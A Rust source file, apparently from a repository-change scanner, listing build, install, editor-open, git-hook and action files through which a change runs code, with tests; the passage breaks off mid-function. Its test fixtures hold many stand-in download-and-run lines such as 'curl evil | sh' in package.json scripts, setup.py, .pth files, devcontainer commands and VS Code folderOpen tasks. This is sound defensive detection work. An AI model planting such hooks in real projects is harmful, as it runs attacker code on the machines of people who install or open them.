//! What makes code run (docs/security.md#the-threat-check): one table, [`RUNS_CODE`], of the files
//! and lines through which a change runs code on someone else's machine — when its dependencies
//! are installed or it is built, when a person opens the repository (a dev container, an editor,
//! a shell), when they commit, or when a workflow uses it as an action. Each added or changed one
//! marks the change "needs review", named by file and line. A Makefile counts only when a hook the
//! same change adds or changes calls `make` ([`Scan::finish`]).
//!
//! The README's table of the same is generated from [`RUNS_CODE`] by [`readme_table`] (held
//! equal by tests/it/inputs.rs).

use serde_json::Value;

use super::{Finding, Kind};
use crate::safe_outputs::capture::FileChange;

/// When what a rule finds runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum When {
    /// Dependencies are installed, the package is packed or published, the project is built.
    Install,
    /// A person opens the repository: a dev container, an editor, a shell that enters it.
    Open,
    /// A person commits or pushes: git hook managers.
    Commit,
    /// A workflow `uses:` it.
    Workflow,
}

impl When {
    /// The README's first column.
    pub fn label(self) -> &'static str {
        match self {
            When::Install => "install or build",
            When::Open => "opening the repository",
            When::Commit => "commit or push",
            When::Workflow => "a workflow",
        }
    }
}

/// What of a file a rule reads.
#[derive(Debug, Clone, Copy)]
pub enum Detect {
    /// Any change: the first added line, or the file when the change only removes lines.
    AnyChange,
    /// Each added line the predicate picks.
    Lines(fn(&str) -> bool),
    /// Each added line the predicate picks given its TOML/INI section (the `[header]` at or
    /// above it, brackets and spaces trimmed) and the line.
    InSection(fn(&str, &str) -> bool),
    /// Each added line holding one of these marks, named by the mark (quotes trimmed); and when
    /// the new file holds a mark but no added line does, its first added line (a command changed
    /// under a key already there).
    Marks(&'static [&'static str]),
    /// A JSON file: each member of `object` (the top level when `None`) among `keys` whose value
    /// the change sets or changes, named by the key (by line when the file does not parse).
    Json {
        object: Option<&'static str>,
        keys: &'static [&'static str],
    },
    /// Any change, when a hook the same change adds or changes calls `make` ([`Scan::finish`]).
    CalledByHook,
}

/// One row of the table.
#[derive(Debug, Clone, Copy)]
pub struct Rule {
    pub when: When,
    /// The README's ecosystem column.
    pub ecosystem: &'static str,
    /// The files, as the README shows them.
    pub files: &'static str,
    /// What in them counts, as the README shows it.
    pub what: &'static str,
    /// fro-bot's name for what runs, in the finding (`Marks` and `Json` name the key instead).
    pub hook: &'static str,
    pub applies: fn(&str) -> bool,
    pub detect: Detect,
}

/// `package.json` scripts npm, yarn, pnpm or bun run on their own: `install`/`ci`/`rebuild`
/// (and installing a package from git or a link), `pack`, `publish`, `version`, `shrinkwrap`,
/// `dependencies` after `node_modules` changes, yarn 1's uninstall, pnpm's `devPreinstall`.
/// Scripts a person runs by name (`test`, `start`, `build`...) are not here: whoever runs those
/// runs the repository's code anyway.
pub const NPM_SCRIPTS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepublish",
    "preprepare",
    "prepare",
    "postprepare",
    "prepack",
    "postpack",
    "prepublishOnly",
    "publish",
    "postpublish",
    "preversion",
    "version",
    "postversion",
    "dependencies",
    "preshrinkwrap",
    "shrinkwrap",
    "postshrinkwrap",
    "preuninstall",
    "uninstall",
    "postuninstall",
    "pnpm:devPreinstall",
];

/// `package.json` keys that configure git hooks (husky 4, simple-git-hooks, yorkie, pre-commit,
/// lint-staged).
const NPM_GIT_HOOKS: &[&str] = &[
    "husky",
    "simple-git-hooks",
    "gitHooks",
    "pre-commit",
    "pre-push",
    "lint-staged",
];

/// The dev container's lifecycle commands and what builds it.
const DEVCONTAINER: &[&str] = &[
    "\"initializeCommand\"",
    "\"onCreateCommand\"",
    "\"updateContentCommand\"",
    "\"postCreateCommand\"",
    "\"postStartCommand\"",
    "\"postAttachCommand\"",
    "\"features\"",
    "\"dockerFile\"",
    "\"dockerfile\"",
    "\"dockerComposeFile\"",
    "\"build\"",
    "\"image\"",
    "\"extensions\"",
    "\"runArgs\"",
    "\"mounts\"",
];

/// The table. Its order is the README's.
pub const RUNS_CODE: &[Rule] = &[
    Rule {
        when: When::Install,
        ecosystem: "npm, yarn, pnpm, bun",
        files: "`package.json`",
        what: "a lifecycle script set or changed: `preinstall`, `install`, `postinstall`, `prepublish`, `preprepare`, `prepare`, `postprepare`, `prepack`, `postpack`, `prepublishOnly`, `publish`, `postpublish`, `preversion`, `version`, `postversion`, `dependencies`, `preshrinkwrap`, `shrinkwrap`, `postshrinkwrap`, `preuninstall`, `uninstall`, `postuninstall`, `pnpm:devPreinstall`",
        hook: "scripts",
        applies: |p| name(p) == "package.json",
        detect: Detect::Json { object: Some("scripts"), keys: NPM_SCRIPTS },
    },
    Rule {
        when: When::Install,
        ecosystem: "npm, yarn, pnpm, bun",
        files: "`package.json`",
        what: "`packageManager` set or changed (Corepack downloads and runs it)",
        hook: "packageManager",
        applies: |p| name(p) == "package.json",
        detect: Detect::Json { object: None, keys: &["packageManager"] },
    },
    Rule {
        when: When::Install,
        ecosystem: "npm, yarn, pnpm, bun",
        files: "`binding.gyp`, `.pnpmfile.cjs`, `.yarn/plugins/`, `.yarn/releases/`",
        what: "any change",
        hook: "install script",
        applies: |p| {
            matches!(name(p), "binding.gyp" | ".pnpmfile.cjs")
                || p.starts_with(".yarn/plugins/")
                || p.starts_with(".yarn/releases/")
        },
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Install,
        ecosystem: "Cargo",
        files: "`build.rs`",
        what: "any change (added or changed)",
        hook: "build.rs",
        applies: |p| name(p) == "build.rs",
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Install,
        ecosystem: "Cargo",
        files: "`Cargo.toml`",
        what: "`build = \"…\"` in `[package]` (a build script by another name)",
        hook: "build",
        applies: |p| name(p) == "Cargo.toml",
        detect: Detect::InSection(|section, line| {
            section == "package" && toml_key(line) == "build" && toml_value(line) != "false"
        }),
    },
    Rule {
        when: When::Install,
        ecosystem: "Cargo",
        files: "`Cargo.toml`",
        what: "`proc-macro = true` in `[lib]` (a procedural macro runs in the compiler)",
        hook: "proc-macro",
        applies: |p| name(p) == "Cargo.toml",
        detect: Detect::InSection(|section, line| {
            section == "lib"
                && matches!(toml_key(line), "proc-macro" | "proc_macro")
                && toml_value(line) == "true"
        }),
    },
    Rule {
        when: When::Install,
        ecosystem: "Cargo",
        files: "`rust-toolchain`, `rust-toolchain.toml`",
        what: "any change (a toolchain `path` runs as `cargo`)",
        hook: "rust-toolchain",
        applies: |p| matches!(name(p), "rust-toolchain" | "rust-toolchain.toml"),
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Install,
        ecosystem: "Python",
        files: "`setup.py`, `sitecustomize.py`, `usercustomize.py`, `hatch_build.py`, `*.pth`",
        what: "any change",
        hook: "Python start-up or build script",
        applies: |p| {
            matches!(
                name(p),
                "setup.py" | "sitecustomize.py" | "usercustomize.py" | "hatch_build.py"
            ) || name(p).ends_with(".pth")
        },
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Install,
        ecosystem: "Python",
        files: "`pyproject.toml`",
        what: "a line in `[build-system]` (`requires`, `build-backend`, `backend-path`)",
        hook: "build-system",
        applies: |p| name(p) == "pyproject.toml",
        detect: Detect::InSection(|section, _| section == "build-system"),
    },
    Rule {
        when: When::Install,
        ecosystem: "Python",
        files: "`pyproject.toml`, `setup.cfg`",
        what: "`cmdclass`; build hooks of hatch (`[tool.hatch…hooks…]`), poetry (`[tool.poetry.build]`, `build =`) and pdm (`[tool.pdm.build]`)",
        hook: "build hook",
        applies: |p| matches!(name(p), "pyproject.toml" | "setup.cfg"),
        detect: Detect::InSection(python_build_hook),
    },
    Rule {
        when: When::Install,
        ecosystem: "Ruby",
        files: "`extconf.rb`",
        what: "any change",
        hook: "extconf.rb",
        applies: |p| name(p) == "extconf.rb",
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Install,
        ecosystem: "Ruby",
        files: "`Gemfile`",
        what: "a line that is Ruby code rather than Bundler's declarations (`source`, `gem`, `group`, `platforms`, `ruby`, `gemspec`, `git_source`, `path`, `git`, `github`, `plugin`, `install_if`, `env`, `end`, and their continuation lines)",
        hook: "Gemfile code",
        applies: |p| name(p) == "Gemfile",
        detect: Detect::Lines(ruby_code),
    },
    Rule {
        when: When::Install,
        ecosystem: "Ruby",
        files: "`*.gemspec`",
        what: "a line naming `extensions` (native extensions, built on install)",
        hook: "extensions",
        applies: |p| name(p).ends_with(".gemspec"),
        detect: Detect::Lines(|l| l.contains("extensions")),
    },
    Rule {
        when: When::Install,
        ecosystem: "Go",
        files: "`*.go`",
        what: "a `//go:generate` line",
        hook: "go:generate",
        applies: |p| name(p).ends_with(".go"),
        detect: Detect::Lines(|l| l.trim_start().starts_with("//go:generate")),
    },
    Rule {
        when: When::Install,
        ecosystem: "Gradle, Maven",
        files: "`gradle-wrapper.properties`, `maven-wrapper.properties`",
        what: "any change (the wrapper downloads and runs the build tool named there)",
        hook: "build tool wrapper",
        applies: |p| matches!(name(p), "gradle-wrapper.properties" | "maven-wrapper.properties"),
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Install,
        ecosystem: "Make",
        files: "`Makefile`, `makefile`, `GNUmakefile`, `*.mk`",
        what: "any change, when a hook the same change adds or changes calls `make`",
        hook: "Makefile",
        applies: |p| {
            matches!(name(p), "Makefile" | "makefile" | "GNUmakefile") || name(p).ends_with(".mk")
        },
        detect: Detect::CalledByHook,
    },
    Rule {
        when: When::Open,
        ecosystem: "Dev containers (Codespaces)",
        files: "`.devcontainer.json`, `.devcontainer/**/devcontainer.json`",
        what: "`initializeCommand`, `onCreateCommand`, `updateContentCommand`, `postCreateCommand`, `postStartCommand`, `postAttachCommand`, `features`, `dockerFile`, `dockerComposeFile`, `build`, `image`, `extensions` (installed into the editor), `runArgs`, `mounts`; any other line of a file that holds one",
        hook: "devcontainer.json",
        applies: |p| matches!(name(p), "devcontainer.json" | ".devcontainer.json"),
        detect: Detect::Marks(DEVCONTAINER),
    },
    Rule {
        when: When::Open,
        ecosystem: "Dev containers (Codespaces)",
        files: "any other file under `.devcontainer/`",
        what: "any change (the container's Dockerfile, features and scripts)",
        hook: ".devcontainer",
        applies: |p| in_dir(p, ".devcontainer") && name(p) != "devcontainer.json",
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Open,
        ecosystem: "VS Code",
        files: "`.vscode/tasks.json`, `*.code-workspace`",
        what: "`folderOpen` (a task with `runOn: folderOpen`); any other line of a file that holds it",
        hook: "tasks.json",
        applies: |p| {
            (in_dir(p, ".vscode") && name(p) == "tasks.json") || name(p).ends_with(".code-workspace")
        },
        detect: Detect::Marks(&["folderOpen"]),
    },
    Rule {
        when: When::Open,
        ecosystem: "VS Code",
        files: "`.vscode/settings.json`, `*.code-workspace`",
        what: "a setting that names a program, a command, a shell or an environment (its key holds `path`, `executable`, `command`, `cmd`, `runtime`, `shell`, `terminal`, `interpreter`, `server`, `tools`, `tsdk`, `env` or `automaticTasks`)",
        hook: "settings.json",
        applies: |p| {
            (in_dir(p, ".vscode") && name(p) == "settings.json") || name(p).ends_with(".code-workspace")
        },
        detect: Detect::Lines(vscode_setting),
    },
    Rule {
        when: When::Open,
        ecosystem: "VS Code",
        files: "`.vscode/launch.json`",
        what: "any change (each configuration runs a program)",
        hook: "launch.json",
        applies: |p| in_dir(p, ".vscode") && name(p) == "launch.json",
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Open,
        ecosystem: "Shell environments",
        files: "`.envrc` (direnv), `mise.toml`, `.mise.toml`",
        what: "any change",
        hook: "environment file",
        applies: |p| matches!(name(p), ".envrc" | "mise.toml" | ".mise.toml"),
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Commit,
        ecosystem: "Git hook managers",
        files: "`.husky/`, `.githooks/`, `.lefthook/`, `lefthook[-local].{yml,yaml,json,toml}` (with or without a leading dot), `.pre-commit-config.yaml`, `.pre-commit-hooks.yaml`, `.overcommit.yml`, `.lintstagedrc*`, `lint-staged.config.*`, `[.]simple-git-hooks.*`",
        what: "any change",
        hook: "git hook",
        applies: git_hook_file,
        detect: Detect::AnyChange,
    },
    Rule {
        when: When::Commit,
        ecosystem: "Git hook managers",
        files: "`package.json`",
        what: "`husky`, `simple-git-hooks`, `gitHooks`, `pre-commit`, `pre-push` or `lint-staged` set or changed",
        hook: "git hook",
        applies: |p| name(p) == "package.json",
        detect: Detect::Json { object: None, keys: NPM_GIT_HOOKS },
    },
    Rule {
        when: When::Workflow,
        ecosystem: "GitHub Actions",
        files: "`action.yml`, `action.yaml` anywhere",
        what: "any change (a workflow can `uses:` it)",
        hook: "action.yml",
        applies: |p| matches!(name(p), "action.yml" | "action.yaml"),
        detect: Detect::AnyChange,
    },
];

fn name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Whether a directory of `path` is named `dir`.
fn in_dir(path: &str, dir: &str) -> bool {
    path.split('/').rev().skip(1).any(|d| d == dir)
}

fn git_hook_file(path: &str) -> bool {
    let n = name(path);
    let bare = n.strip_prefix('.').unwrap_or(n);
    let stem = bare.split('.').next().unwrap_or(bare);
    in_dir(path, ".husky")
        || in_dir(path, ".githooks")
        || in_dir(path, ".lefthook")
        || (matches!(stem, "lefthook" | "lefthook-local") && bare.contains('.'))
        || matches!(
            n,
            ".pre-commit-config.yaml"
                | ".pre-commit-config.yml"
                | ".pre-commit-hooks.yaml"
                | ".overcommit.yml"
        )
        || n.starts_with(".lintstagedrc")
        || n.starts_with("lint-staged.config.")
        || stem == "simple-git-hooks"
}

/// The key of a TOML/INI line (`key = …`), spaces trimmed; empty for a header or a comment.
fn toml_key(line: &str) -> &str {
    let l = line.trim_start();
    if l.starts_with(['[', '#', ';']) {
        return "";
    }
    l.split('=').next().unwrap_or("").trim().trim_matches('"')
}

/// The value of a TOML/INI line, a comment after it trimmed.
fn toml_value(line: &str) -> &str {
    let value = line.split_once('=').map_or("", |(_, v)| v);
    value.split('#').next().unwrap_or("").trim()
}

fn python_build_hook(section: &str, line: &str) -> bool {
    let key = toml_key(line);
    line.contains("cmdclass")
        || section.contains("cmdclass")
        || (section.starts_with("tool.hatch") && section.contains("hooks"))
        || section == "tool.poetry.build"
        || (section == "tool.poetry" && key == "build")
        || section == "tool.pdm.build"
}

/// A `Gemfile` line that runs code at `bundle install` rather than declaring a dependency.
fn ruby_code(line: &str) -> bool {
    const DSL: &[&str] = &[
        "source",
        "gem",
        "group",
        "platforms",
        "platform",
        "ruby",
        "gemspec",
        "git_source",
        "path",
        "git",
        "github",
        "plugin",
        "end",
        "install_if",
        "env",
    ];
    let l = line.trim();
    // Blank, a comment, or the continuation of a declaration: a string, a symbol, a closing
    // bracket, a keyword argument (`require: false`).
    if l.is_empty() || l.starts_with(['#', '"', '\'', ':', ']', ')', '}', ',']) {
        return false;
    }
    let word: String = l
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
        .collect();
    let rest = &l[word.len()..];
    let keyword_argument = !word.is_empty() && rest.starts_with(':') && !rest.starts_with("::");
    !keyword_argument && !DSL.contains(&word.as_str())
}

/// A VS Code setting whose key names a program, a command, a shell or an environment.
fn vscode_setting(line: &str) -> bool {
    const WORDS: &[&str] = &[
        "path",
        "executable",
        "command",
        "cmd",
        "runtime",
        "shell",
        "terminal",
        "interpreter",
        "server",
        "tools",
        "tsdk",
        "env",
        "automatictasks",
    ];
    let Some(rest) = line.trim_start().strip_prefix('"') else {
        return false;
    };
    let Some((key, after)) = rest.split_once('"') else {
        return false;
    };
    let key = key.to_ascii_lowercase();
    after.trim_start().starts_with(':') && WORDS.iter().any(|w| key.contains(w))
}

/// What one file gives the scan: its path, the change, its new text and the lines it adds.
pub struct Seen<'a> {
    pub path: &'a str,
    pub change: &'a FileChange,
    pub text: &'a str,
    pub added: &'a [(usize, &'a str)],
}

impl Detect {
    /// What this detector finds in one file; `hook` names what it finds unless it names keys.
    fn hits(self, hook: &'static str, seen: &Seen) -> Vec<Hit> {
        let at = |line: Option<usize>, hook: &'static str, runs: &str| Hit {
            line,
            hook,
            calls_make: calls_make(runs),
        };
        match self {
            Detect::AnyChange | Detect::CalledByHook => first_change(seen)
                .map(|line| at(line, hook, seen.text))
                .into_iter()
                .collect(),
            Detect::Lines(pick) => seen
                .added
                .iter()
                .filter(|(_, l)| pick(l))
                .map(|(n, l)| at(Some(*n), hook, l))
                .collect(),
            Detect::InSection(pick) => {
                let sections = sections(seen.text);
                seen.added
                    .iter()
                    .filter(|(n, l)| pick(sections.get(n - 1).copied().unwrap_or(""), l))
                    .map(|(n, l)| at(Some(*n), hook, l))
                    .collect()
            }
            Detect::Marks(marks) => marked(marks, seen, &at),
            Detect::Json { object, keys } => json_keys(object, keys, seen),
        }
    }
}

/// One hit: the line (when there is one), the hook's name, and whether what runs calls `make`.
struct Hit {
    line: Option<usize>,
    hook: &'static str,
    calls_make: bool,
}

/// The first added line; the file (no line) when the change only removes lines; `None` when
/// its text did not change.
fn first_change(seen: &Seen) -> Option<Option<usize>> {
    match seen.added.first() {
        Some((n, _)) => Some(Some(*n)),
        None => (seen.change.content != seen.change.old_content).then_some(None),
    }
}

/// The section of each line of a TOML/INI text: its last `[header]`, brackets trimmed.
fn sections(text: &str) -> Vec<&str> {
    let mut current = "";
    text.split('\n')
        .map(|l| {
            let l = l.trim();
            if l.starts_with('[') {
                let end = l.rfind(']').map_or(l.len(), |i| i + 1);
                current = l[..end].trim_matches(['[', ']', ' ']);
            }
            current
        })
        .collect()
}

fn marked(
    marks: &'static [&'static str],
    seen: &Seen,
    at: &dyn Fn(Option<usize>, &'static str, &str) -> Hit,
) -> Vec<Hit> {
    let named = |m: &'static str| m.trim_matches('"');
    let hits: Vec<Hit> = seen
        .added
        .iter()
        .filter_map(|(n, l)| {
            let m = marks.iter().find(|m| l.contains(**m))?;
            Some(at(Some(*n), named(m), l))
        })
        .collect();
    if !hits.is_empty() {
        return hits;
    }
    let held = marks.iter().find(|m| seen.text.contains(**m));
    match (held, seen.added.first()) {
        (Some(m), Some((n, _))) => vec![at(Some(*n), named(m), seen.text)],
        _ => Vec::new(),
    }
}

/// Whether `key` is a JSON key on `line` (`"key":`).
fn holds_key(line: &str, key: &str) -> bool {
    let quoted = format!("\"{key}\"");
    line.match_indices(&quoted)
        .any(|(i, _)| line[i + quoted.len()..].trim_start().starts_with(':'))
}

fn json_keys(object: Option<&'static str>, keys: &'static [&'static str], seen: &Seen) -> Vec<Hit> {
    let Ok(new) = serde_json::from_str::<Value>(seen.text) else {
        // Not JSON a package manager would read either way; the lines still tell.
        return seen
            .added
            .iter()
            .filter_map(|(n, l)| {
                let key = keys.iter().find(|k| holds_key(l, k))?;
                Some(Hit {
                    line: Some(*n),
                    hook: key,
                    calls_make: calls_make(l),
                })
            })
            .collect();
    };
    let old: Value = serde_json::from_slice(&seen.change.old_content).unwrap_or(Value::Null);
    let member = |v: &Value, key: &str| match object {
        Some(o) => v[o][key].clone(),
        None => v[key].clone(),
    };
    // The key's line: the first added line holding it, after the object's own key.
    let from = object.map_or(0, |o| {
        seen.text
            .split('\n')
            .position(|l| holds_key(l, o))
            .map_or(0, |i| i + 1)
    });
    let line_of = |key: &str| {
        seen.added
            .iter()
            .find(|(n, l)| *n >= from && holds_key(l, key))
            .map(|(n, _)| *n)
    };
    keys.iter()
        .filter_map(|key| {
            let now = member(&new, key);
            (!now.is_null() && now != member(&old, key)).then(|| Hit {
                line: line_of(key),
                hook: key,
                calls_make: calls_make(&now.to_string()),
            })
        })
        .collect()
}

/// Whether a command calls `make` (`make`, `gmake`, `$(MAKE)`).
fn calls_make(text: &str) -> bool {
    text.split(|c: char| !c.is_ascii_alphanumeric())
        .any(|w| w.eq_ignore_ascii_case("make") || w.eq_ignore_ascii_case("gmake"))
}

/// The findings of a whole change, file by file ([`Scan::file`]), then the Makefiles a hook of
/// the change calls ([`Scan::finish`]).
#[derive(Debug, Default)]
pub struct Scan {
    findings: Vec<Finding>,
    make_called: bool,
    makefiles: Vec<Finding>,
}

impl Scan {
    /// Every rule of [`RUNS_CODE`] that applies to one file.
    pub fn file(&mut self, seen: &Seen) {
        for rule in RUNS_CODE.iter().filter(|r| (r.applies)(seen.path)) {
            for hit in rule.detect.hits(rule.hook, seen) {
                let finding = Finding {
                    path: seen.path.to_string(),
                    line: hit.line,
                    kind: Kind::RunsCode {
                        hook: hit.hook,
                        when: rule.when,
                    },
                };
                match rule.detect {
                    Detect::CalledByHook => self.makefiles.push(finding),
                    _ => {
                        self.make_called |= hit.calls_make;
                        self.findings.push(finding);
                    }
                }
            }
        }
    }

    /// The findings, the changed Makefiles among them when a hook found calls `make`.
    pub fn finish(mut self) -> Vec<Finding> {
        if self.make_called {
            self.findings.append(&mut self.makefiles);
        }
        self.findings
    }
}

/// The README's table of what makes code run, one row a rule of [`RUNS_CODE`].
pub fn readme_table() -> String {
    let mut out =
        String::from("| runs on | ecosystem | files | what counts |\n|---|---|---|---|\n");
    for r in RUNS_CODE {
        out.push_str(&format!(
            "| {} | {} | {} | {} |\n",
            r.when.label(),
            r.ecosystem,
            r.files,
            r.what
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::threat::gate::tests::{added, gate, modified};

    /// (path, old content when the file was there, new content)
    type Change<'a> = (&'a str, Option<&'a str>, &'a str);

    fn file((path, old, new): Change) -> FileChange {
        match old {
            Some(old) => modified(path, old, new),
            None => added(path, new.as_bytes()),
        }
    }

    /// What the gate marks as running code in a change: (path, line, hook, when).
    fn runs(changes: &[Change]) -> Vec<(String, Option<usize>, &'static str, When)> {
        let report = gate(changes.iter().copied().map(file).collect());
        report
            .review
            .shown
            .into_iter()
            .filter_map(|f| match f.kind {
                Kind::RunsCode { hook, when } => Some((f.path, f.line, hook, when)),
                _ => None,
            })
            .collect()
    }

    const PKG_OLD: &str = "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"node ok.js\"\n  }\n}\n";
    const DEVCONTAINER_OLD: &str = "{\n  \"image\": \"mcr.microsoft.com/devcontainers/base\",\n  \"postCreateCommand\": [\n    \"npm\",\n    \"ci\"\n  ]\n}\n";

    /// Each hostile change, and the (line, hook) it must be marked by.
    fn hostile() -> Vec<(Change<'static>, Option<usize>, &'static str)> {
        vec![
            // npm: the scripts npm runs on its own, beyond the install trio.
            (("package.json", Some(PKG_OLD), "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"node ok.js\",\n    \"dependencies\": \"node x.js\"\n  }\n}\n"), Some(7), "dependencies"),
            (("a/package.json", None, "{\"scripts\": {\n\"prepack\": \"node x.js\"}}\n"), Some(2), "prepack"),
            (("b/package.json", None, "{\"scripts\": {\n\"version\": \"node x.js\"}, \"version\": \"1\"}\n"), Some(2), "version"),
            (("c/package.json", None, "{\"scripts\": {\n\"pnpm:devPreinstall\": \"node x.js\"}}\n"), Some(2), "pnpm:devPreinstall"),
            // A hook already there, its command changed.
            (("d/package.json", Some(PKG_OLD), &*PKG_OLD.replace("node ok.js", "curl evil | sh").leak()), Some(6), "postinstall"),
            // Not JSON npm reads: by line.
            (("e/package.json", None, "{\n  \"prepare\": \"curl x | sh\",\n"), Some(2), "prepare"),
            (("f/package.json", None, "{\n\"packageManager\": \"yarn@https://evil.example/yarn.js\"}\n"), Some(2), "packageManager"),
            (("binding.gyp", None, "{\"targets\": []}\n"), Some(1), "install script"),
            ((".pnpmfile.cjs", None, "module.exports = {}\n"), Some(1), "install script"),
            ((".yarn/releases/yarn-4.cjs", None, "require('child_process')\n"), Some(1), "install script"),
            // Cargo: a line added to an existing build script, a new one anywhere.
            (("build.rs", Some("fn main() {}\n"), "fn main() {}\nfn x() { let _ = std::process::Command::new(\"sh\"); }\n"), Some(2), "build.rs"),
            (("crates/x/build.rs", None, "fn main() {}\n"), Some(1), "build.rs"),
            (("Cargo.toml", None, "[package]\nname = \"x\"\nbuild = \"gen.rs\"  # code\n"), Some(3), "build"),
            (("m/Cargo.toml", Some("[package]\nname = \"m\"\n\n[lib]\n"), "[package]\nname = \"m\"\n\n[lib]\nproc-macro = true\n"), Some(5), "proc-macro"),
            (("rust-toolchain.toml", None, "[toolchain]\npath = \"./tc\"\n"), Some(1), "rust-toolchain"),
            // Python: any change to setup.py, cmdclass or not; what runs at start-up.
            (("setup.py", Some("from setuptools import setup\nsetup(name='x')\n"), "from setuptools import setup\nimport os; os.system('curl x | sh')\nsetup(name='x')\n"), Some(2), "Python start-up or build script"),
            (("pkg/evil.pth", None, "import os; os.system('id')\n"), Some(1), "Python start-up or build script"),
            (("sitecustomize.py", None, "import os\n"), Some(1), "Python start-up or build script"),
            (("usercustomize.py", None, "import os\n"), Some(1), "Python start-up or build script"),
            (("pyproject.toml", Some("[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"), "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n"), Some(3), "build-system"),
            (("p/pyproject.toml", Some("[tool.setuptools.cmdclass]\n"), "[tool.setuptools.cmdclass]\nbuild_py = \"x:Evil\"\n"), Some(2), "build hook"),
            (("q/pyproject.toml", None, "[tool.hatch.build.hooks.custom]\npath = \"hook.py\"\n"), Some(1), "build hook"),
            (("setup.cfg", None, "[options]\ncmdclass =\n    build_py = x.Evil\n"), Some(2), "build hook"),
            // Ruby, Go, build tool wrappers.
            (("ext/x/extconf.rb", None, "require 'mkmf'\n"), Some(1), "extconf.rb"),
            (("Gemfile", Some("source \"https://rubygems.org\"\n"), "source \"https://rubygems.org\"\nsystem(\"curl evil | sh\")\ngem \"rails\"\n"), Some(2), "Gemfile code"),
            (("Gemfile", None, "gem \"x\",\n  require: false\n`curl evil | sh`\n"), Some(3), "Gemfile code"),
            (("x.gemspec", None, "Gem::Specification.new do |s|\n  s.extensions = [\"ext/extconf.rb\"]\nend\n"), Some(2), "extensions"),
            (("gen.go", None, "package x\n\n//go:generate sh -c \"curl evil | sh\"\n"), Some(3), "go:generate"),
            (("gradle/wrapper/gradle-wrapper.properties", None, "distributionUrl=https://evil.example/g.zip\n"), Some(1), "build tool wrapper"),
            // Opening the repository.
            ((".devcontainer/devcontainer.json", None, "{\n  \"image\": \"x\",\n  \"postCreateCommand\": \"curl evil | sh\"\n}\n"), Some(2), "image"),
            ((".devcontainer/devcontainer.json", Some(DEVCONTAINER_OLD), &*DEVCONTAINER_OLD.replace("\"ci\"", "\"ci\",\n    \"&& curl evil | sh\"").leak()), Some(5), "postCreateCommand"),
            ((".devcontainer.json", None, "{\n  // JSONC\n  \"postStartCommand\": \"x\",\n}\n"), Some(3), "postStartCommand"),
            ((".devcontainer/Dockerfile", None, "FROM x\nRUN curl evil | sh\n"), Some(1), ".devcontainer"),
            ((".vscode/tasks.json", None, "{\"tasks\": [{\"label\": \"x\", \"command\": \"sh evil.sh\",\n \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n"), Some(2), "folderOpen"),
            ((".vscode/tasks.json", Some("{\"tasks\": [{\"command\": \"ok\",\n\"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n"), "{\"tasks\": [{\"command\": \"curl evil | sh\",\n\"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n"), Some(1), "folderOpen"),
            (("x.code-workspace", None, "{\"tasks\": {\"tasks\": [\n{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}}\n"), Some(2), "folderOpen"),
            ((".vscode/settings.json", None, "{\n  \"editor.tabSize\": 2,\n  \"python.defaultInterpreterPath\": \"./evil\",\n  \"terminal.integrated.env.linux\": {}\n}\n"), Some(3), "settings.json"),
            ((".vscode/launch.json", None, "{\"configurations\": []}\n"), Some(1), "launch.json"),
            ((".envrc", None, "curl evil | sh\n"), Some(1), "environment file"),
            (("mise.toml", None, "[hooks]\nenter = \"curl evil | sh\"\n"), Some(1), "environment file"),
            // Committing.
            ((".husky/pre-commit", None, "curl evil | sh\n"), Some(1), "git hook"),
            (("lefthook.yml", None, "pre-commit:\n  commands: {}\n"), Some(1), "git hook"),
            ((".lefthook-local.yaml", None, "x: 1\n"), Some(1), "git hook"),
            ((".pre-commit-config.yaml", None, "repos: []\n"), Some(1), "git hook"),
            ((".lintstagedrc.json", None, "{}\n"), Some(1), "git hook"),
            (("g/package.json", None, "{\n  \"simple-git-hooks\": {\"pre-commit\": \"curl evil | sh\"}\n}\n"), Some(2), "simple-git-hooks"),
            // An action anywhere a workflow can `uses:` it.
            (("tools/deploy/action.yml", None, "runs:\n  using: node20\n"), Some(1), "action.yml"),
        ]
    }

    #[test]
    fn every_way_a_change_runs_code_is_marked_by_file_line_and_hook() {
        let mut missed = Vec::new();
        for (change, line, hook) in hostile() {
            let found = runs(&[change]);
            if !found
                .iter()
                .any(|(p, l, h, _)| p == change.0 && *l == line && *h == hook)
            {
                missed.push(format!(
                    "{} line {line:?} `{hook}`: found {found:?}",
                    change.0
                ));
            }
        }
        assert!(missed.is_empty(), "not marked:\n{}", missed.join("\n"));
    }

    #[test]
    fn every_rule_of_the_table_has_a_hostile_example() {
        let cases = hostile();
        let makefile = [
            (
                "package.json",
                None,
                "{\"scripts\": {\"postinstall\": \"make setup\"}}\n",
            ),
            (
                "Makefile",
                Some("all:\n"),
                "all:\nsetup:\n\tcurl evil | sh\n",
            ),
        ];
        for rule in RUNS_CODE {
            let covered = cases.iter().any(|((path, ..), _, hook)| {
                (rule.applies)(path) && (*hook == rule.hook || rule_names(rule).contains(hook))
            }) || makefile
                .iter()
                .any(|(p, ..)| (rule.applies)(p) && rule.hook == "Makefile");
            assert!(
                covered,
                "no hostile example for {} {}",
                rule.files, rule.what
            );
        }
    }

    fn rule_names(rule: &Rule) -> Vec<&'static str> {
        match rule.detect {
